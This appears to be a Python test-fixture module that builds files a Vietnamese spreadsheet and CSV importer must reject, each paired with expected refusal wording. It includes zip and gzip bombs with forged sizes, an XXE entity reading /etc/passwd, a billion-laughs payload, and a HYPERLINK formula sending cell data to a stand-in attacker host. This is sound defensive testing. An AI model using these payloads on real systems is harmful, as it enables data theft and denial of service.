"""Builds files that must be refused: bombs, liars, and other things than they claim to be.

`RECIPES` maps a name to a builder, which writes one file into a folder, and to words that the sentence of
the refusal must contain. Everything is made here, small on disk and quick to make.
"""

import gzip
import struct
from collections.abc import Callable
from pathlib import Path

from tests.raw_workbooks import HEADER, LIST, MAIN, ROW, cell, parts, row, sheet, stored, workbook, write_zip


def ratio_bomb(folder: Path) -> Path:
    return workbook(folder / "bom-nen.xlsx", sheet(LIST + "<!--" + " " * 100_000_000 + "-->"))


def declared_bomb(folder: Path) -> Path:
    """Every size in the table of contents is a lie."""
    path = workbook(folder / "bom-khai-bao.xlsx", sheet(LIST))
    content = bytearray(path.read_bytes())
    at = content.find(b"PK\x01\x02")
    while at != -1:
        content[at + 20 : at + 28] = struct.pack("<II", 90_000_000, 90_000_000)
        at = content.find(b"PK\x01\x02", at + 1)
    path.write_bytes(content)
    return path


def many_parts(folder: Path) -> Path:
    more: dict[str, str | bytes] = {f"xl/phan{number}.xml": "<a/>" for number in range(10_000)}
    return write_zip(folder / "10000-phan.xlsx", parts(sheet(LIST)) | more)


def duplicate_part(folder: Path) -> Path:
    path = workbook(folder / "trung-ten.xlsx", sheet(LIST), xl__worksheets__sheet2_dot_xml=sheet(LIST))
    path.write_bytes(path.read_bytes().replace(b"sheet2.xml", b"sheet1.xml"))
    return path


def nested_zip(folder: Path) -> Path:
    inner = write_zip(folder / "trong.zip", {"a.txt": "a" * 1000})
    return write_zip(folder / "nen-long-nhau.xlsx", {"trong.zip": inner.read_bytes()})


def locked_part(folder: Path) -> Path:
    path = workbook(folder / "mat-khau-zip.xlsx", sheet(LIST))
    content = bytearray(path.read_bytes())
    content[6] |= 1
    content[content.find(b"PK\x01\x02") + 8] |= 1
    path.write_bytes(content)
    return path


def cut_workbook(folder: Path) -> Path:
    path = workbook(folder / "cut.xlsx", sheet(LIST))
    path.write_bytes(path.read_bytes()[:900])
    return path


def far_cell(folder: Path) -> Path:
    far = f'<row r="1048576">{cell("XFD1048576", "x")}</row>'
    return workbook(folder / "o-xa.xlsx", sheet(LIST + far))


def far_row(folder: Path) -> Path:
    return workbook(folder / "dong-xa.xlsx", sheet(LIST + f'<row r="900000">{cell("A900000", "x")}</row>'))


def far_row_csv(folder: Path) -> Path:
    path = folder / "dong-xa.csv"
    path.write_text(",".join(HEADER) + "\n" + ",".join(ROW) + "\n" * 5000 + "1,2,3,4\n", encoding="utf-8")
    return path


def rows_200000(folder: Path) -> Path:
    rows = "".join(
        f'<row r="{number}"><c r="A{number}"><v>{number}</v></c></row>' for number in range(3, 200_003)
    )
    return workbook(folder / "200000-dong.xlsx", sheet(LIST + rows))


def rows_200000_unnumbered(folder: Path) -> Path:
    """Rows without numbers, under a prefix that a hasty count would overlook."""
    rows = "".join(f"<x:row><x:c><x:v>{number}</x:v></x:c></x:row>" for number in range(200_000))
    text = f'<x:worksheet xmlns:x="{MAIN}"><x:sheetData>{rows}</x:sheetData></x:worksheet>'
    return workbook(folder / "200000-dong-an.xlsx", text)


def rows_200000_csv(folder: Path) -> Path:
    path = folder / "200000-dong.csv"
    path.write_text(",".join(HEADER) + "\n" + (",".join(ROW) + "\n") * 200_000, encoding="utf-8")
    return path


def cell_flood(folder: Path) -> Path:
    return stored(folder / "o-trong.xlsx", sheet(LIST + '<row r="3">' + "<c/>" * 2_000_000 + "</row>"))


def element_flood(folder: Path) -> Path:
    """Elements that no reader of rows would ever let go of."""
    return stored(folder / "the-la.xlsx", sheet("<x1/><x2/><x3/>" * 1_200_000 + LIST))


def deep_elements(folder: Path) -> Path:
    return stored(folder / "the-long.xlsx", sheet("<a>" * 400_000 + "</a>" * 400_000 + LIST))


def string_flood(folder: Path) -> Path:
    table = f'<sst xmlns="{MAIN}">' + "<si><t>Một chuỗi dùng chung</t></si>" * 1_200_000 + "</sst>"
    return workbook(folder / "chuoi-chung.xlsx", sheet(LIST), xl__sharedStrings_dot_xml=table)


def style_flood(folder: Path) -> Path:
    entries = parts(sheet(LIST))
    styles = "".join(f'<xf numFmtId="{number}"/>' for number in range(600_000))
    entries["xl/styles.xml"] = f'<styleSheet xmlns="{MAIN}"><cellXfs>{styles}</cellXfs></styleSheet>'
    return write_zip(folder / "kieu.xlsx", entries)


def long_cell(folder: Path) -> Path:
    texts = (*ROW[:2], "".join(chr(97 + number * 7 % 26) for number in range(40_000)), ROW[3])
    return workbook(folder / "o-dai.xlsx", sheet(row(1, HEADER) + row(2, texts)))


def huge_cell(folder: Path) -> Path:
    text = "abcdefghij" * 1_000_000
    return stored(folder / "o-khong-lo.xlsx", sheet(row(1, HEADER) + row(2, (*ROW[:2], text, ROW[3]))))


def formula(folder: Path) -> Path:
    text = "<f>HYPERLINK(&quot;http://ke-xau.example/?&quot;&amp;A1,&quot;Xem&quot;)</f><v>0</v>"
    rows = LIST + f'<row r="3">{cell("B3", "1.001194")}<c r="C3" t="str">{text}</c></row>'
    return workbook(folder / "cong-thuc.xlsx", sheet(rows))


def external_link(folder: Path) -> Path:
    link = f'<externalLink xmlns="{MAIN}"/>'
    return workbook(folder / "lien-ket.xlsx", sheet(LIST), xl__externalLinks__externalLink1_dot_xml=link)


def macros(folder: Path) -> Path:
    return workbook(folder / "macro.xlsm", sheet(LIST), xl__vbaProject_dot_bin=b"\0macro")


def xxe(folder: Path) -> Path:
    dtd = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    return workbook(folder / "xxe.xlsx", sheet(row(1, HEADER) + row(2, ("1", "1.001193", "&x;", "a")), dtd))


def laughs(folder: Path) -> Path:
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    dtd = f'<!-- ... --><!DOCTYPE a [<!ENTITY l0 "ha">{entities}]>'
    return workbook(folder / "cuoi.xlsx", sheet(row(1, HEADER) + row(2, ("1", "1.001193", "&l9;", "a")), dtd))


def xxe_utf16(folder: Path) -> Path:
    text = sheet(LIST, '<!DOCTYPE a [<!ENTITY x "y">]>').replace("UTF-8", "UTF-16")
    entries = parts("")
    entries["xl/worksheets/sheet1.xml"] = text.encode("utf-16")
    return write_zip(folder / "xxe-utf16.xlsx", entries)


def named(name: str, content: bytes) -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        path = folder / name
        path.write_bytes(content)
        return path

    return build


def word_document(folder: Path) -> Path:
    entries: dict[str, str | bytes] = {"[Content_Types].xml": "<Types/>", "word/document.xml": "<document/>"}
    return write_zip(folder / "van-ban.xlsx", entries)


def open_document(folder: Path) -> Path:
    entries: dict[str, str | bytes] = {
        "mimetype": "application/vnd.oasis.opendocument.spreadsheet",
        "content.xml": "<a/>",
    }
    return write_zip(folder / "bang.ods", entries)


def binary_workbook(folder: Path) -> Path:
    return write_zip(folder / "bang.xlsb", {"[Content_Types].xml": "<Types/>", "xl/workbook.bin": b"\0"})


def renamed_workbook(folder: Path) -> Path:
    return workbook(folder / "bang.csv", sheet(LIST))


def ole(*streams: str) -> bytes:
    """Something with the head and the directory entries of an OLE file, and nothing else."""
    entries = (f"{name}\0".encode("utf-16-le").ljust(128, b"\0") for name in streams)
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".ljust(512, b"\0") + b"".join(entries) + b"\0" * 4096


def gzip_bomb(folder: Path) -> Path:
    first = gzip.compress(b'{"ma": "1.001193"}\n')
    member = gzip.compress((b" " * 1_000_000 + b"\n") * 10, compresslevel=1)
    return named("bom.jsonl.gz", first + member * 60)(folder)


def gzip_long_line(folder: Path) -> Path:
    return named("dong-dai.jsonl.gz", gzip.compress(b'{"ma": 1}\n{"ten": "' + b"a" * 50_000_000))(folder)


def large_csv(folder: Path) -> Path:
    path = folder / "lon.csv"
    with path.open("wb") as file:
        file.write(b"Ten,Ma\n")
        file.truncate(25 * 1024 * 1024)
    return path


TCVN3 = "STT,Tªn thñ tôc hµnh chÝnh,LÜnh vùc\n1,§¨ng ký khai sinh cã yÕu tè n­íc ngoµi,Hé tÞch\n"
VNI = "STT,Teân thuû tuïc haønh chính,Lónh vöïc\n1,Ñaêng kyù khai sinh coù yeáu toá nöôùc ngoaøi,Hoä tòch\n"
RECIPES: dict[str, tuple[Callable[[Path], Path], str]] = {
    "a part packed 1000 times": (ratio_bomb, "nén hơn 200 lần"),
    "declared sizes beyond measure": (declared_bomb, "300 MB"),
    "10,000 parts": (many_parts, "nhiều bất thường"),
    "two parts of one name": (duplicate_part, "trùng tên"),
    "a zip in a zip": (nested_zip, "tệp nén"),
    "a part with a password": (locked_part, "mật khẩu"),
    "a cut workbook": (cut_workbook, "hỏng"),
    "a cell at XFD1048576": (far_cell, "ngoài cột thứ 60"),
    "a row far below": (far_row, "dòng trống"),
    "a row far below in CSV": (far_row_csv, "dòng trống"),
    "200,000 rows": (rows_200000, "20.000 dòng"),
    "200,000 rows without numbers": (rows_200000_unnumbered, "20.000 dòng"),
    "200,000 rows of CSV": (rows_200000_csv, "20.000 dòng"),
    "two million empty cells": (cell_flood, "600.000 ô"),
    "millions of unknown elements": (element_flood, "không phải ô"),
    "elements nested deeply": (deep_elements, "không phải ô"),
    "a flood of shared strings": (string_flood, "lớn bất thường"),
    "a flood of styles": (style_flood, "lớn bất thường"),
    "a cell of 40,000 characters": (long_cell, "nhiều chữ"),
    "a cell of 10 MB": (huge_cell, "nhiều chữ"),
    "a formula": (formula, "công thức"),
    "external links": (external_link, "liên kết tới tệp khác"),
    "macros": (macros, "macro"),
    "an external entity": (xxe, "DTD"),
    "a billion laughs": (laughs, "DTD"),
    "an entity behind UTF-16": (xxe_utf16, "không phải XML"),
    "a program": (named("bang.xlsx", b"MZ\x90\0" + b"\0" * 500), "chương trình"),
    "a web page": (named("bang.xls", b"<html><body><table><tr><td>1"), "trang web"),
    "an XML spreadsheet of 2003": (named("cu.xls", b'<?xml version="1.0"?><Workbook/>'), "XML"),
    "a PDF": (named("quyet-dinh.xlsx", b"%PDF-1.7 ..."), "PDF"),
    "a picture": (named("anh.xlsx", b"\x89PNG\r\n\x1a\n"), "hình ảnh"),
    "nothing": (named("rong.xlsx", b""), "rỗng"),
    "an OLE file that is no workbook": (named("bang2.xls", ole("Root Entry", "Chuyen")), "97–2003"),
    "an OLE file under another name": (named("bang3.xlsx", ole("Workbook")), "đuôi .xlsx"),
    "a broken OLE workbook": (named("bang4.xls", ole("Workbook")), "hỏng"),
    "an encrypted workbook": (named("mat-khau.xls", ole("EncryptedPackage")), "mật khẩu"),
    "an old Word file": (named("van-ban.xls", ole("WordDocument")), "Word"),
    "old macros": (named("macro.xls", ole("_VBA_PROJECT_CUR", "Workbook")), "macro"),
    "a Word file": (word_document, "Word"),
    "an OpenDocument table": (open_document, "OpenDocument"),
    "a binary workbook": (binary_workbook, ".xlsb"),
    "a workbook named CSV": (renamed_workbook, "đuôi .csv"),
    "a gzip bomb": (gzip_bomb, "400 MB"),
    "a record of 50 MB": (gzip_long_line, "8 MB"),
    "a cut gzip": (named("cut.jsonl.gz", gzip.compress(b'{"ma": 1}\n' * 9000)[:80]), "hỏng"),
    "gzip of something else": (named("khac.gz", gzip.compress(b"a,b\n1,2\n")), "JSON Lines"),
    "an array of JSON": (named("mang.jsonl", b'[{"ma": 1}]'), "mảng JSON"),
    "JSON nested deeply": (named("sau.jsonl", b'{"a":' * 100_000 + b"\n"), "JSON Lines"),
    "a CSV of 25 MB": (large_csv, "20 MB"),
    "a CSV with NUL": (named("nul.csv", "Mã,Tên\n1.001193,a\0b".encode()), "ký tự không phải chữ"),
    "a CSV in TCVN3": (named("tcvn3.csv", TCVN3.encode("cp1252")), "TCVN3"),
    "a CSV in VNI": (named("vni.csv", VNI.encode("cp1252")), "VNI"),
    "VNI saved as Unicode": (named("vni2.csv", VNI.encode()), "VNI"),
    "a CSV in Windows-1258": (named("1258.csv", "Mã,Tên\n1,Hộ tịch".encode("cp1258", "ignore")), "UTF-8"),
    "a CSV of 5,000 columns": (named("rong-ngang.csv", b"Ten,Ma" + b",x" * 5000 + b"\n"), "ngoài cột thứ 60"),
}
